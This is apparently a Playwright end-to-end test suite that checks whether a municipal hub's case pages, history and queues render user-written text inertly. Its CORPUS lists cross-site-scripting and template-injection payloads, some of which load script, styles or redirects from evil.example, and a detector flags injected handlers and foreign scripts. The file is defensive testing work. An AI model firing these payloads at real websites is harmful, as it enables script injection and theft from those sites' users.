"""Whatever residents and villages write, the hub's pages only show it: a corpus in every field, in a browser (F01).

Inert means: no dialog, no report of the content security policy, no element or handler that no template wrote.
"""

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from msgspec.structs import replace
from playwright.sync_api import Browser, ConsoleMessage, Dialog, Page, Request

from hub.accounts.rules import Role
from loadtests.village import Change
from protocol.bundle import Manifest
from protocol.catalogue import TEXT_TYPES
from tests.e2e.hub_server import served, session_of
from tests.hubs import CATALOGUE
from tests.webs import HubWeb, make_web

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]

CORPUS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>klik</a>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action='https://evil.example'><input type=submit>",
    "<!--<script>alert(1)</script>-->",
    "{{7*7}} {{config}} {% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "`+alert(1)+`';alert(1);//\\",
)


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HubWeb]:
    directory: Path = tmp_path_factory.mktemp("inert")
    made = make_web(directory, f"sqlite:///{directory / 'hub.db'}")
    yield made
    made.hub.database.dispose()


@pytest.fixture(scope="module")
def url(web: HubWeb) -> Iterator[str]:
    with served(web.app) as address:
        yield address


def spoil(payload: str) -> Change:
    """Put a text wherever a village may write one."""

    def change(manifest: Manifest) -> Manifest:
        service = CATALOGUE.service(str(manifest.service), manifest.service_version)
        free = {field.key for field in service.fields if field.type in TEXT_TYPES and field.pattern is None}
        limits = {field.key: field.max_length or 120 for field in service.fields}
        return replace(
            manifest,
            applicant=replace(manifest.applicant, name=payload[:120], address=payload[:120]),
            answers={
                key: payload[: limits[key]] if key in free else answer for key, answer in manifest.answers.items()
            },
            attachments=[replace(file, name=payload[:120]) for file in manifest.attachments],
            remarks=dict.fromkeys(manifest.answers, payload),
        )

    return change


@contextmanager
def signed_in(web: HubWeb, url: str, browser: Browser, role: Role) -> Iterator[tuple[Page, list[str]]]:
    """Open a page of a person; what it should not do ends in the list."""
    token, wrong = session_of(web, web.actor(role)), list[str]()
    context = browser.new_context(viewport={"width": 1366, "height": 768})
    context.add_cookies([{"name": "simpul", "value": token, "url": url}])
    page = context.new_page()

    def heard(message: ConsoleMessage) -> None:
        if message.type in {"error", "warning"}:
            wrong.append(message.text)

    def asked(dialog: Dialog) -> None:
        wrong.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def went(request: Request) -> None:
        if "evil" in request.url:
            wrong.append(request.url)

    page.on("dialog", asked)
    page.on("console", heard)
    page.on("request", went)
    yield page, wrong
    context.close()


FOREIGN = """() => [...document.querySelectorAll('*')].filter((node) =>
  [...node.attributes].some((each) => each.name.startsWith('on') || /^javascript:/i.test(each.value)
    || (['srcdoc', 'http-equiv'].includes(each.name))) || ['BASE', 'MATH', 'STYLE'].includes(node.tagName)
  || (node.tagName === 'SCRIPT' && !node.src.startsWith(location.origin))
  || (node.tagName === 'IMG')).map((node) => node.outerHTML.slice(0, 200))"""


def check(page: Page, wrong: list[str], payload: str) -> None:
    """Say what is not inert, and that the text is there to be read."""
    page.keyboard.press("Tab")
    assert page.evaluate(FOREIGN) == [], payload
    assert wrong == [], payload
    assert "evil" not in page.url


@pytest.mark.parametrize("service", ["REKLAME"])
def test_what_residents_write_is_inert_on_the_case_page(web: HubWeb, url: str, browser: Browser, service: str) -> None:
    with signed_in(web, url, browser, Role.FRONT_OFFICE) as (page, wrong):
        for payload in CORPUS:
            case_id = web.case(service, change=spoil(payload))
            page.goto(f"{url}/cases/{case_id}")
            check(page, wrong, payload)
            page.evaluate("document.querySelector('textarea[name=why]').closest('details').open = true")
            page.fill("textarea[name=why]", f"alasan {payload}"[:900])
            page.click("form[action$=reveal] button[type=submit]")
            page.wait_for_load_state()
            assert payload[:40] in page.inner_text("main").replace("\xa0", " ")
            check(page, wrong, payload)


def test_what_clerks_write_is_inert_in_the_history(web: HubWeb, url: str, browser: Browser) -> None:
    case_id = web.case("APOTEK")
    with signed_in(web, url, browser, Role.FRONT_OFFICE) as (page, wrong):
        for payload in CORPUS[:12]:
            page.goto(f"{url}/cases/{case_id}")
            page.evaluate("document.querySelectorAll('details').forEach((each) => { each.open = true; })")
            page.select_option("select[name=reason]", "other")
            page.fill("form[action$=ask] textarea[name=note]", "x")
            page.click("form[action$=ask] button[type=submit]")  # too short: the form comes back
            page.fill("form[action$=ask] textarea[name=note]", f"{payload} ditulis panjang")
            page.evaluate("document.querySelector('form[action$=ask] input[name=version]').value = '999'")
            page.click("form[action$=ask] button[type=submit]")  # a conflict: the form comes back with the words
            page.wait_for_load_state()
            wrong[:] = [text for text in wrong if "status of 4" not in text]  # 422 and 409 are what is wanted
            check(page, wrong, payload)


def test_a_queue_full_of_them_is_inert(web: HubWeb, url: str, browser: Browser) -> None:
    with signed_in(web, url, browser, Role.INSPECTORATE) as (page, wrong):
        for path in ("/cases", "/cases?view=all&sort=old", "/cases?service=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"):
            page.goto(url + path)
            check(page, wrong, path)
